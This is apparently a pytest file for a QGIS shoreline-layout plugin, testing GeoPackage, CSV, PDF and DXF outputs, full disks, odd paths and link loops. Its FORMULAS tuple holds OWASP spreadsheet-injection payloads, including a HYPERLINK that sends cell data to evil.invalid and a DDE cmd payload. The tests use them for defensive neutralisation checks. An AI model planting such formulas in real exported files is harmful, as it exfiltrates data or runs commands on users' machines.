"""Issue #26 (items 3, 4, 5, 6, 6b, 6c, 7, 9) and #24's habits: the files a run reads and writes.
Every test goes through processing.run and reads what was written back at the path given."""
from __future__ import annotations

import csv
import os
import re
import shutil
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hostile import (  # noqa: F401 - hostile_files is the fixture `hostile`, tmpfs_fixture `tmpfs`
    CL,
    ODD_FILE,
    ODD_FOLDER,
    REFUSED,
    WR,
    fill,
    hostile_files,
    parcels,
    parcels_with_ids,
    run_outcome,
    shore,
    tmpfs_fixture,
    write_gpkg,
)
from qgis.core import QgsVectorLayer
from test_processing_layers import provider  # noqa: F401 - the plugin's provider, with its PDF renderers

LA = "shorelinelayout:lakeaudit"
SP = "shorelinelayout:siteplanreport"
EO = "shorelinelayout:exportoverlays"
PROFILES = Path(__file__).resolve().parents[2] / "core" / "profiles"
# parcel ids a spreadsheet would run (OWASP's examples), and one plain negative number
FORMULAS = ('=HYPERLINK("http://evil.invalid/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2) §160", "-4.3")


def table_rows(gpkg: Path) -> dict[str, list[tuple]]:
    """Every feature table's rows, read with sqlite (the input tables' content, byte for byte)."""
    con = sqlite3.connect(Path(gpkg).as_uri() + "?mode=ro", uri=True)
    try:
        tables = [t for (t,) in con.execute("SELECT table_name FROM gpkg_contents")]
        return {t: con.execute(f'SELECT * FROM "{t}" ORDER BY 1').fetchall() for t in tables}  # nosec B608
    finally:
        con.close()


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.startswith(".partial-"))


# ---------------------------------------------------------------- #24: the input GeoPackage

def test_a_new_table_of_the_input_geopackage_is_written_and_the_inputs_kept(provider: Any,
                                                                            tmp_path: Path) -> None:
    folder = tmp_path / "lake #1 o'brien é"
    folder.mkdir()
    gpkg = folder / "one.gpkg"
    write_gpkg(gpkg, {"parcels": parcels(), "mhw": shore()})
    before = table_rows(gpkg)
    destination = "ogr:dbname='{}' table=\"water_rights_lines\" (geom)".format(str(gpkg).replace("'", "\\'"))
    outcome = run_outcome(WR, PARCELS=f"{gpkg}|layername=parcels", SHORELINE=f"{gpkg}|layername=mhw",
                          WATER_RIGHTS_LINES=destination)
    assert outcome.kind != REFUSED, outcome.error
    after = table_rows(gpkg)
    assert {t: after[t] for t in before} == before            # parcels and mhw as they were
    assert len(after["water_rights_lines"]) == 4              # the worked example's four tie points
    lines = QgsVectorLayer(f"{gpkg}|layername=water_rights_lines", "lines", "ogr")
    assert lines.isValid() and lines.featureCount() == 4


@pytest.mark.parametrize("table", ("parcels", "PARCELS", "mhw"))
def test_the_input_table_itself_is_refused(provider: Any, tmp_path: Path, table: str) -> None:
    folder = tmp_path / "lake #1 o'brien é"
    folder.mkdir()
    gpkg = folder / "one.gpkg"
    write_gpkg(gpkg, {"parcels": parcels(), "mhw": shore()})
    before = table_rows(gpkg)
    dbname = str(gpkg).replace("'", "\\'")
    outcome = run_outcome(WR, PARCELS=f"{gpkg}|layername=parcels", SHORELINE=f"{gpkg}|layername=mhw",
                          WATER_RIGHTS_LINES=f"ogr:dbname='{dbname}' table=\"{table}\" (geom)")
    assert outcome.kind == REFUSED and outcome.error.startswith("WATER_RIGHTS_LINES: "), outcome.error
    assert str(gpkg) in outcome.error and ("PARCELS" if table != "mhw" else "SHORELINE") in outcome.error
    assert table_rows(gpkg) == before


def test_a_hash_in_the_folder_does_not_hide_the_geopackage_tables(qgis_app: Any, tmp_path: Path) -> None:
    """The plugin's own sqlite read (New layout asks whether it replaces layers) used `file:` URIs
    unquoted: a `#` cut the path and the read saw an empty database."""
    from hostile import buoys, structures

    from shoreline_layout.qgis_io.overwrite_guard import layers_in_file, new_layout_replaces

    folder = tmp_path / "a #b ?c é"
    folder.mkdir()
    gpkg = folder / "layout #1.gpkg"
    write_gpkg(gpkg, {"structures": structures(), "buoys": buoys(), "parcels": parcels()})
    assert layers_in_file(str(gpkg)) == [("buoys", 0), ("parcels", 5), ("structures", 0)]
    question = new_layout_replaces(str(gpkg))
    assert "replaces its layers 'structures' (0 features) and 'buoys' (0 features)" in question
    assert "Its other layers ('parcels') are kept." in question


# ---------------------------------------------------------------- #26 item 3 and #24: the CSV

def test_the_audit_csv_neutralises_formulas_and_keeps_the_section_sign(provider: Any, tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    outcome = run_outcome(LA, PARCELS=parcels_with_ids(FORMULAS), AUDIT="TEMPORARY_OUTPUT", CSV=str(path))
    assert outcome.kind != REFUSED, outcome.error
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "§160".encode() in raw    # UTF-8 with a BOM
    with open(path, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    ids = {r["parcel_id"] for r in rows}
    assert ids == {"'" + f for f in FORMULAS[:4]} | {"-4.3"}
    assert not [r for r in rows for v in r.values() if v[:1] in ("=", "+", "@", "\t", "\r")]
    # numbers stay numbers: the frontages of the worked example (P3's is 200 ft)
    assert sorted(float(r["frontage_ft"]) for r in rows) == [100.0, 100.0, 100.0, 100.0, 200.0]


def test_a_layer_written_as_csv_is_neutralised_too(provider: Any, tmp_path: Path) -> None:
    path = tmp_path / "allowed.csv"
    outcome = run_outcome("shorelinelayout:allowedfacilities", PARCELS=parcels_with_ids(FORMULAS),
                          OUTPUT=str(path))
    assert outcome.kind != REFUSED, outcome.error
    with open(path, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["parcel_id"] for r in rows} == {"'" + f for f in FORMULAS[:4]} | {"-4.3"}
    assert sorted(float(r["frontage_ft"]) for r in rows) == [100.0, 100.0, 100.0, 100.0, 200.0]


def test_cells_are_neutralised_as_owasp_says() -> None:
    from shoreline_layout.qgis_io.files import neutralise_cell

    cases = {"=1+2": "'=1+2", "+1": "+1", "+A1": "'+A1", "-4.3": "-4.3", "-4.3+A1": "'-4.3+A1",
             "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "P-1": "P-1", "": "",
             "-": "'-", "§160-123": "§160-123"}
    assert {k: neutralise_cell(k) for k in cases} == cases
    assert neutralise_cell(-4.5) == -4.5 and neutralise_cell(None) == ""


# ---------------------------------------------------------------- #26 item 4: a full disk

def test_a_full_disk_stops_the_audit_csv_and_leaves_no_file(provider: Any, tmpfs: Path) -> None:
    fill(tmpfs, leave=0)
    path = tmpfs / "audit.csv"
    outcome = run_outcome(LA, AUDIT="TEMPORARY_OUTPUT", CSV=str(path))
    assert outcome.kind == REFUSED
    said = outcome.error
    assert said.startswith(f"CSV: {path} could not be written (No space left on device)"), said
    assert not path.exists() and leftovers(tmpfs) == []


def test_a_full_disk_stops_the_audit_pdf_and_leaves_no_file(provider: Any, tmpfs: Path) -> None:
    fill(tmpfs, leave=24_000)
    path = tmpfs / "audit.pdf"
    outcome = run_outcome(LA, AUDIT="TEMPORARY_OUTPUT", PDF=str(path))
    assert outcome.kind == REFUSED
    assert outcome.error.startswith(f"PDF: {path} ") and "disk" in outcome.error, outcome.error
    assert not path.exists() and leftovers(tmpfs) == []


def test_a_full_disk_stops_the_site_plan_and_leaves_no_file(provider: Any, tmpfs: Path) -> None:
    fill(tmpfs, leave=24_000)
    folder = tmpfs / "plans"
    outcome = run_outcome(SP, PARCEL="P2", OUTPUT_FOLDER=str(folder))
    assert outcome.kind == REFUSED
    assert outcome.error.startswith("OUTPUT_FOLDER: ") and str(folder / "siteplan_P2.pdf") in outcome.error, \
        outcome.error
    assert not (folder / "siteplan_P2.pdf").exists() and leftovers(tmpfs) == []


# ---------------------------------------------------------------- #26 item 5: odd paths

def test_outputs_under_an_odd_folder_are_read_back_at_their_paths(provider: Any, tmp_path: Path) -> None:
    """The CSV, the PDF and the site plans, which the plugin writes itself, go anywhere; a layer
    goes anywhere QGIS's writer can write: not to a path with a line break (QGIS appends .gpkg to
    it), which is refused in a sentence."""
    folder = tmp_path / ODD_FOLDER
    csv_path, pdf_path, gpkg = (folder / f"{ODD_FILE}.{ext}" for ext in ("csv", "pdf", "gpkg"))
    outcome = run_outcome(LA, AUDIT=str(gpkg), CSV=str(csv_path), PDF=str(pdf_path))
    assert outcome.kind == REFUSED
    shown = str(gpkg).replace("\n", "\\n")
    assert outcome.error == (f"AUDIT: QGIS cannot write a layer to a path with a line break in it ({shown}); "
                             "choose a folder and file name without one.")
    one_line = tmp_path / ODD_FOLDER.replace("\n", " ") / f"{ODD_FILE}.gpkg"
    outcome = run_outcome(LA, AUDIT=str(one_line), CSV=str(csv_path), PDF=str(pdf_path))
    assert outcome.kind != REFUSED, outcome.error
    assert outcome.results["CSV"] == str(csv_path) and outcome.results["PDF"] == str(pdf_path)
    with open(csv_path, newline="", encoding="utf-8-sig") as handle:
        assert sorted(r["parcel_id"] for r in csv.DictReader(handle)) == ["P1", "P2", "P3", "P4", "P5"]
    text = subprocess.run(["pdftotext", str(pdf_path), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "P3" in text
    layer = QgsVectorLayer(str(one_line), "audit", "ogr")
    assert layer.isValid() and layer.featureCount() == 5, sorted(os.listdir(one_line.parent))
    plans = folder / "plans #2"
    outcome = run_outcome(SP, PARCEL="P2", OUTPUT_FOLDER=str(plans))
    assert outcome.kind != REFUSED, outcome.error
    assert outcome.results["PDF_PATHS"] == [str(plans / "siteplan_P2.pdf")]
    assert (plans / "siteplan_P2.pdf").read_bytes().startswith(b"%PDF-")
    assert not [p for p in (tmp_path, Path.cwd(), folder) if (p / "PWN").exists()]   # nothing ran
    assert leftovers(tmp_path) == []


def test_overlays_under_an_odd_folder_are_read_back(provider: Any, tmp_path: Path) -> None:
    from qgis.core import QgsLayerDefinition, QgsProject

    folder = tmp_path / ODD_FOLDER
    gpkg, qlr, dxf = (folder / f"{ODD_FILE}.{ext}" for ext in ("gpkg", "qlr", "dxf"))
    outcome = run_outcome(EO, OUTPUT_GPKG=str(gpkg), OUTPUT_QLR=str(qlr), OUTPUT_DXF=str(dxf))
    assert outcome.kind != REFUSED, outcome.error
    assert QgsVectorLayer(f"{gpkg}|layername=water_rights_lines", "l", "ogr").featureCount() == 4
    project = QgsProject()
    assert QgsLayerDefinition.loadLayerDefinition(str(qlr), project, project.layerTreeRoot())[0]
    assert sorted(layer.featureCount() for layer in project.mapLayers().values())[-1] >= 4
    assert dxf.read_bytes().rstrip().endswith(b"EOF") and leftovers(tmp_path) == []


def test_a_full_disk_stops_the_overlays_and_leaves_no_file(provider: Any, tmpfs: Path) -> None:
    fill(tmpfs, leave=8_000)
    gpkg, dxf = tmpfs / "o.gpkg", tmpfs / "o.dxf"
    outcome = run_outcome(EO, OUTPUT_GPKG=str(gpkg), OUTPUT_QLR=None, OUTPUT_DXF=str(dxf))
    assert outcome.kind == REFUSED, outcome.kind
    assert not dxf.exists() and not gpkg.exists() and leftovers(tmpfs) == [], sorted(os.listdir(tmpfs))


# ---------------------------------------------------------------- #26 item 6: a damaged raster

def _rasters(root: Path) -> tuple[Path, Path]:
    import numpy as np
    from osgeo import gdal

    good = root / "bottom.tif"
    ds = gdal.GetDriverByName("GTiff").Create(str(good), 200, 200, 1, gdal.GDT_Float32)
    ds.SetGeoTransform((-200, 5, 0, 800, 0, -5))
    ds.GetRasterBand(1).WriteArray(np.full((200, 200), 700.0, np.float32))
    ds = None
    data = good.read_bytes()
    cut = root / "cut short.tif"
    cut.write_bytes(data[: len(data) // 3])
    garbage = root / "garbage.tif"
    garbage.write_bytes(b"II*\x00" + bytes(range(256)) * 20)
    return cut, garbage


def test_a_damaged_bathymetry_raster_is_refused_not_ignored(provider: Any, tmp_path: Path) -> None:
    cut, garbage = _rasters(tmp_path)
    outcome = run_outcome(CL, BATHYMETRY=str(cut))
    assert outcome.kind == REFUSED and outcome.error.startswith("BATHYMETRY: raster "), outcome.error
    assert "damaged or cut short" in outcome.error and "depth exception" in outcome.error
    outcome = run_outcome(CL, BATHYMETRY=str(garbage))
    assert outcome.error == (f"BATHYMETRY: '{garbage}' could not be opened as a raster (it is missing, "
                             "damaged or not a raster file), so the depth exception to the reach could not "
                             "be applied. Give a readable raster, or leave BATHYMETRY empty.")


def test_the_panel_says_a_damaged_bathymetry_raster_too(qgis_app: Any, tmp_path: Path) -> None:
    from qgis.core import QgsCoordinateReferenceSystem, QgsRasterLayer

    from shoreline_layout.ui.session import UserError, make_depth_at

    cut, _garbage = _rasters(tmp_path)
    layer = QgsRasterLayer(str(cut), "bottom")
    assert layer.isValid()                       # it opens: only reading its data fails
    with pytest.raises(UserError, match=r"^BATHYMETRY: raster 'bottom' \(.*\) opens but its data cannot be"):
        make_depth_at(layer, QgsCoordinateReferenceSystem("EPSG:2261"))


# ---------------------------------------------------------------- #26 item 6b: the profile is an input

def test_no_output_overwrites_the_profile_or_its_crosswalk(provider: Any, hostile: Any) -> None:
    crosswalk = hostile.text("codes.toml", (PROFILES / "nys_property_class.toml").read_text(encoding="utf-8"))
    keuka = (PROFILES / "keuka.toml").read_text(encoding="utf-8")
    assert "[land_use_codes]" not in keuka
    profile = hostile.text("mine.toml", keuka + '\n[land_use_codes]\nfile = "codes.toml"\n')
    for name in ("PROFILE", "PROFILE_FILE"):
        outcome = run_outcome(LA, AUDIT="TEMPORARY_OUTPUT", CSV=str(profile), **{name: str(profile)})
        assert outcome.kind == REFUSED, outcome.kind
        assert outcome.error.startswith(f"CSV: {profile} is the file of the input {name} (the profile it "
                                        "reads)"), outcome.error
        outcome = run_outcome(LA, AUDIT="TEMPORARY_OUTPUT", PDF=str(crosswalk), **{name: str(profile)})
        assert outcome.kind == REFUSED and f"{name} (the land-use crosswalk it reads)" in outcome.error, \
            outcome.error
    # a file beside the profile is no input
    outcome = run_outcome(LA, AUDIT="TEMPORARY_OUTPUT", PROFILE=str(profile), CSV=str(profile) + ".csv")
    assert outcome.kind != REFUSED, outcome.error
    os.remove(str(profile) + ".csv")


# ---------------------------------------------------------------- #26 item 6c: one file per site plan

def test_parcels_whose_names_collide_get_a_site_plan_each(provider: Any, tmp_path: Path) -> None:
    ids = ("12 A", "12/A", "P3", "P4", "P5")
    outcome = run_outcome(SP, PARCELS=parcels_with_ids(ids), PARCEL="12 A,12/A", OUTPUT_FOLDER=str(tmp_path))
    assert outcome.kind != REFUSED, outcome.error
    assert outcome.results["PDF_PATHS"] == [str(tmp_path / "siteplan_12_A.pdf"),
                                            str(tmp_path / "siteplan_12_A_2.pdf")]
    assert sorted(p.name for p in tmp_path.glob("*.pdf")) == ["siteplan_12_A.pdf", "siteplan_12_A_2.pdf"]
    said = [t for level, t in outcome.log.lines if level == "warning" and "one file name" in t]
    assert said == ["Parcels '12 A', '12/A' have one file name after unsafe characters are replaced: their "
                    "site plans are siteplan_12_A.pdf, siteplan_12_A_2.pdf."]
    for pid, name in (("12 A", "siteplan_12_A.pdf"), ("12/A", "siteplan_12_A_2.pdf")):
        text = subprocess.run(["pdftotext", str(tmp_path / name), "-"], capture_output=True, text=True,
                              check=True).stdout
        assert pid in text, (pid, name)


def test_unique_file_names_never_reuse_a_name() -> None:
    from shoreline_layout.qgis_io.files import unique_file_names
    from shoreline_layout.report.siteplan import safe_name

    names, groups = unique_file_names(["a/b", "A b", "a_b_2", "x"], safe_name, "s_{}.pdf")
    assert names == {"a/b": "s_a_b.pdf", "A b": "s_A_b_3.pdf", "a_b_2": "s_a_b_2.pdf", "x": "s_x.pdf"}
    assert groups == [["a/b", "A b"]]


# ---------------------------------------------------------------- #26 item 7: a link loop

def test_a_profile_that_is_a_link_loop_is_one_sentence(provider: Any, tmp_path: Path) -> None:
    (tmp_path / "a.toml").symlink_to(tmp_path / "b.toml")
    (tmp_path / "b.toml").symlink_to(tmp_path / "a.toml")
    for name in ("PROFILE", "PROFILE_FILE"):
        outcome = run_outcome(WR, **{name: str(tmp_path / "a.toml")})
        assert outcome.kind == REFUSED
        assert outcome.error.startswith(f"{name}: {tmp_path / 'a.toml'}: a symbolic link that leads back to "
                                        "itself (a link loop)."), outcome.error


# ---------------------------------------------------------------- #26 item 9: the DXF's characters

def test_the_dxf_keeps_characters_outside_its_code_page(provider: Any, tmp_path: Path) -> None:
    from osgeo import ogr

    ids = ("Ω-1 Łódź", "日本 2", "P3 é", "P4", "P5")
    dxf = tmp_path / "overlays.dxf"
    outcome = run_outcome(EO, PARCELS=parcels_with_ids(ids), OUTPUT_GPKG=str(tmp_path / "o.gpkg"),
                          OUTPUT_QLR=None, OUTPUT_DXF=str(dxf))
    assert outcome.kind != REFUSED, outcome.error
    raw = dxf.read_bytes()
    assert b"ANSI_1252" in raw and b"\\U+03A9" in raw and b"\\U+65E5\\U+672C" in raw
    source = ogr.Open(str(dxf))
    texts = {feature.GetField("Text") or "" for feature in source.GetLayer(0)}
    source = None
    decoded = " ".join(re.sub(r"\\U\+([0-9A-F]{4})", lambda m: chr(int(m.group(1), 16)), t) for t in texts)
    assert "Ω-1 Łódź" in decoded and "日本 2" in decoded and "P3 é" in decoded, texts
    assert "?" not in decoded
    (said,) = [t for level, t in outcome.log.lines if level == "warning" and t.startswith("OUTPUT_DXF:")]
    assert said.startswith("OUTPUT_DXF: 2 texts hold characters the DXF's code page (Windows-1252) lacks, "
                           "e.g. ") and "'日本 2'" in said, said


@pytest.fixture(autouse=True)
def _pdftotext() -> None:
    assert shutil.which("pdftotext"), "pdftotext (poppler-utils) is needed to read the PDFs back"
